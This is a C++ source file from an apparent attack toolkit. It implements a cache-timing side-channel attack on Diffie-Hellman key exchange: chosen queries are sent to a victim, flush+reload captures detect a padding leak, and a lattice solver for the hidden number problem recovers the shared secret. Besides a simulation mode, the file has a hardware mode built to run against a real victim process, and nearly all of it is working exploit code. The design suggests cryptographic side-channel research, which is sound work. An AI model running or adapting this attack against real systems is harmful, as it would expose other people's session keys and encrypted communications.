#include <chrono>

#include "degradekit/attack.hpp"

namespace degradekit::attack {

PaddingObserver capture_observer(std::function<void(const dh::ChosenQuery&)> trigger,
                                 probe::CacheLineTarget line, AttackParams params,
                                 std::size_t samples, DegradeStrategy strategy, Closeness rule) {
  params.validate();
  line.validate();
  require(static_cast<bool>(trigger), ErrorKind::Validation, "capture observer needs a trigger");
  probe::require_capabilities(probe::detect_capabilities(), {.flush = true, .tsc = true},
                              "hardware padding capture");
  return [trigger = std::move(trigger), line = std::move(line), params, samples, strategy,
          rule](const dh::ChosenQuery& q, std::uint32_t) {
    // The trigger starts the victim asynchronously; the capture window covers it.
    trigger(q);
    auto tr = probe::flush_reload_capture(line, params.r, samples, strategy);
    return detect_padding(tr, params, rule);
  };
}

void AttackRunConfig::validate() const {
  group.validate();
  oracle.validate();
  params.validate();
  reduction.validate();
  require(ell >= 1, ErrorKind::Validation, "leak size ell must be >= 1");
  require(confidence > 0, ErrorKind::Validation, "dimension confidence factor must be positive");
  require(!d_required || *d_required >= 2, ErrorKind::Validation, "d_required must be >= 2");
  require(collect == 0 || collect >= required(), ErrorKind::Validation,
          "collect must be at least d_required");
  require(query_budget > 0, ErrorKind::Validation, "query budget must be positive");
  if (mode == Mode::Hardware) {
    require(static_cast<bool>(observer), ErrorKind::Validation,
            "hardware mode needs a capture observer");
    require(g_a.has_value() && g_b.has_value(), ErrorKind::Validation,
            "hardware mode needs the victim and target public values");
    probe::require_capabilities(probe::detect_capabilities(), {.flush = true, .tsc = true},
                                "hardware attack mode");
  }
}

std::size_t AttackRunConfig::required() const {
  return d_required.value_or(hnp::dimension_heuristic(confidence, bit_length(group.p), ell));
}

namespace {
double seconds_since(std::chrono::steady_clock::time_point t0) {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
}
}  // namespace

AttackResult run_attack(const AttackRunConfig& cfg) {
  cfg.validate();
  const auto t0 = std::chrono::steady_clock::now();
  const std::size_t need = cfg.required();
  const std::size_t target = cfg.collect ? cfg.collect : need;
  const bool simulate = cfg.mode == Mode::Simulate;

  Rng rng(cfg.seed);
  Integer g_a, g_b, victim_priv;
  AttackResult res;
  if (simulate) {
    auto victim = dh::keygen(cfg.group, rng);
    auto peer = dh::keygen(cfg.group, rng);
    victim_priv = victim.priv;
    g_a = victim.pub;
    g_b = peer.pub;
    res.ground_truth = dh::shared_secret(g_b, victim_priv, cfg.group.p);
  } else {
    g_a = *cfg.g_a;
    g_b = *cfg.g_b;
  }

  std::vector<dh::VotedQuery> accepted;
  bool truth = false;
  auto observe = [&](const dh::ChosenQuery& q, std::uint32_t retry) {
    return simulate ? dh::observe_truth(truth, q.index, retry, cfg.oracle) : cfg.observer(q, retry);
  };

  AttackStats& st = res.stats;
  while (accepted.size() < target) {
    if (st.queries >= cfg.query_budget) {
      st.accepted = accepted.size();
      st.wall_time = seconds_since(t0);
      res.advice = "raise the query budget or improve the detector rates";
      throw BudgetExhausted("query budget of " + std::to_string(cfg.query_budget) +
                                " exhausted with " + std::to_string(accepted.size()) + " of " +
                                std::to_string(target) + " samples accepted",
                            std::move(res));
    }
    auto q = dh::craft_query(g_b, g_a, cfg.group, rng, st.queries);
    ++st.queries;
    if (simulate) truth = dh::query_truth(q, victim_priv, cfg.group);

    dh::TranscriptEntry entry{q, 0, false};
    if (observe(q, 0)) {
      ++st.base_positives;
      if (cfg.voting) {
        for (std::uint32_t r = 1; r <= cfg.oracle.retries; ++r) entry.votes += observe(q, r);
        entry.accepted = entry.votes >= cfg.oracle.vote_pass;
        ++st.vote_histogram[entry.votes];
      } else {
        entry.votes = 1;
        entry.accepted = true;
      }
    }
    if (entry.accepted) {
      dh::VotedQuery vq{q, entry.votes, std::nullopt};
      if (simulate) vq.truth = truth;
      accepted.push_back(std::move(vq));
    }
    res.transcript.push_back(std::move(entry));
    st.observations =
        total_observations(st.queries, cfg.voting ? st.base_positives : 0, cfg.oracle.retries);
  }
  st.accepted = accepted.size();

  auto selected = dh::rank_and_select(std::move(accepted), need);
  st.selected = selected.size();
  if (simulate) {
    std::size_t fp = 0;
    for (const auto& v : selected) fp += !*v.truth;
    st.selected_false_positives = fp;
    std::size_t afp = 0;
    for (const auto& e : res.transcript)
      if (e.accepted) afp += !dh::query_truth(e.query, victim_priv, cfg.group);
    st.accepted_false_positives = afp;
  }

  res.instance.p = cfg.group.p;
  res.instance.ell = cfg.ell;
  for (const auto& v : selected) res.instance.samples.push_back(v.query.t);

  hnp::SolveParams sp;
  sp.reduction = cfg.reduction;
  const auto solved = hnp::solve(res.instance, sp);
  st.lattice_time = solved.wall_time;
  res.satisfied = solved.satisfied;
  res.alpha = solved.alpha;
  if (simulate)
    res.success = res.alpha && *res.alpha == *res.ground_truth;
  else
    res.success = res.alpha.has_value();
  if (!res.success) {
    res.advice = res.alpha ? "recovered value disagrees with the ground truth; "
                             "check the selected set for false positives"
                           : "no candidate satisfied every constraint; collect more samples "
                             "or reduce with BKZ at a larger block size";
  }
  st.wall_time = seconds_since(t0);
  return res;
}

}  // namespace degradekit::attack
